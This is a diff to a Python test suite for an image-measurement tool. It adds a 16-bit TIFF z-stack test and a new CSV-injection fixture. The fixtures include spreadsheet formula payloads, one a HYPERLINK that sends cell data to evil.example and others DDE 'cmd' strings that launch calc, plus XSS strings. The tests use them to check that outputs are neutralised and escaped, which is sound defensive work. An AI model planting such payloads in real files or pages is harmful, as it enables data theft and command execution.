@@ -100,6 +100,7 @@ def png_bytes(image: Image.Image) -> bytes:
 HOSTILE_SUBJECT = '=HYPERLINK("http://evil.example/?q="&A1,"click")'
 HOSTILE_REGION = "+cheek"
 HOSTILE_TREATMENT = "@SUM(1+1)*cmd|' /C calc'!A0"
+MINUS_TREATMENT = "-2+3+cmd|' /C calc'!A0"
 SCRIPT_SUBJECT = "<script>alert('xss')</script>"
 SCRIPT_TREATMENT = '"><img src=x onerror=alert(1)>'
 UNICODE_NAME = "Zoë Ω 1_s0_cheek.jpg"
@@ -146,13 +147,17 @@ def build_corpus(folder: Path) -> dict[str, dict[str, str]]:
     tif = io.BytesIO()
     tifffile.imwrite(tif, grey16)
     add("grey16.tif", tif.getvalue())
+    # A 16-bit microscope z-stack: the first plane is the image (and the only page decoded).
+    stack = io.BytesIO()
+    tifffile.imwrite(stack, np.stack([grey16, grey16 // 2, grey16 // 3] * 10))
+    add("stack16.tif", stack.getvalue())
     # Decodable variants of a good photo, all measured.
     add("cmyk.jpg", _cmyk_jpeg(skin(1)))
     rgba = np.dstack([skin(2), np.full(skin(2).shape[:2], 128, np.uint8)])
     add("rgba.png", png_bytes(Image.fromarray(rgba, mode="RGBA")))
     exif = Image.Exif()
     exif[0x0112] = 6  # stored sideways; upright it is 128 wide x 96 high
-    add("rotated.jpg", jpeg_bytes(skin(3, shape=(128, 96)), exif=exif.tobytes()))
+    add("rotated.jpg", jpeg_bytes(skin(3, shape=(128, 96)), exif=exif.tobytes()), treatment=MINUS_TREATMENT)
     heic = io.BytesIO()
     Image.fromarray(skin(4)).save(heic, format="HEIF", quality=95)
     add("phone.heic", heic.getvalue())
@@ -266,10 +271,12 @@ def test_decoded_variants_have_the_right_geometry(corpus):
     assert (m.loc["rotated.jpg", "width_px"], m.loc["rotated.jpg", "height_px"]) == (128, 96)
     # CMYK conversion keeps the skin tone: ITA of the same skin as the RGB-PNG twins (skin(1) vs skin(2)).
     assert m.loc["cmyk.jpg", "ita_deg"] == pytest.approx(m.loc["rgba.png", "ita_deg"], abs=3.0)
-    for name in ("grey16.png", "grey16.tif"):
+    for name in ("grey16.png", "grey16.tif", "stack16.tif"):
         assert (m.loc[name, "width_px"], m.loc[name, "height_px"]) == (128, 96), name
-    # Both 16-bit files hold the same grey ramp: the same numbers whatever the container.
+    # All three 16-bit files hold the same grey ramp (the stack in its first plane): the same numbers
+    # whatever the container.
     assert m.loc["grey16.png", "ita_deg"] == pytest.approx(m.loc["grey16.tif", "ita_deg"])
+    assert m.loc["stack16.tif", "ita_deg"] == pytest.approx(m.loc["grey16.tif", "ita_deg"])
 
 
 def test_unicode_and_spaces_survive_to_every_output(corpus):
@@ -325,6 +332,8 @@ def test_formula_cells_are_neutralised_in_csv_and_exact_in_parquet(corpus):
     assert row["subject"] == "'" + HOSTILE_SUBJECT
     assert row["region"] == "'" + HOSTILE_REGION
     assert row["treatment"] == "'" + HOSTILE_TREATMENT
+    rotated = next(r for r in table if r["file"] == "rotated.jpg")
+    assert rotated["treatment"] == "'" + MINUS_TREATMENT
     # Negative numbers stay numbers (they are not formulas).
     assert all(not r["ita_deg"].startswith("'") for r in table)
     # No cell in any CSV output starts with a formula character.
@@ -340,6 +349,7 @@ def test_formula_cells_are_neutralised_in_csv_and_exact_in_parquet(corpus):
     assert exact.loc[FORMULA_NAME, "subject"] == HOSTILE_SUBJECT
     assert exact.loc[FORMULA_NAME, "region"] == HOSTILE_REGION
     assert exact.loc[FORMULA_NAME, "treatment"] == HOSTILE_TREATMENT
+    assert exact.loc["rotated.jpg", "treatment"] == MINUS_TREATMENT
 
 
 def test_markup_in_metadata_is_escaped_in_the_report(tmp_path):
@@ -395,6 +405,24 @@ def test_bomb_is_refused_from_the_header_without_allocating(tmp_path, maker, suf
     finally:
         tracemalloc.stop()
     assert peak < 50 * 2**20
+
+
+def test_tiff_stack_decodes_only_its_first_plane(tmp_path):
+    """300 compressed planes of 200 x 200: a small file whose first series is 24 MB of uint16 (and a
+    grey (Z, Y, X) stack once came out as a Z x Y image). Only the first page is decoded."""
+    planes = np.zeros((300, 200, 200), np.uint16)
+    planes[0] = np.random.default_rng(0).integers(0, 65535, (200, 200), dtype=np.uint16)
+    tifffile.imwrite(tmp_path / "stack.tif", planes, compression="zlib")
+    assert (tmp_path / "stack.tif").stat().st_size < 2 * 2**20
+    tracemalloc.start()
+    try:
+        loaded = load_image(tmp_path / "stack.tif", max_pixels=200 * 200)
+        _, peak = tracemalloc.get_traced_memory()
+    finally:
+        tracemalloc.stop()
+    assert loaded.rgb.shape == (200, 200, 3) and loaded.source_bit_depth == 16
+    np.testing.assert_allclose(loaded.rgb[..., 0], planes[0] / 65535, atol=1e-6)
+    assert peak < 8 * 2**20  # one plane as float32 RGB is 0.5 MB; the whole stack would be 24 MB
 
 
 def test_bad_files_raise_decode_errors_directly(tmp_path):
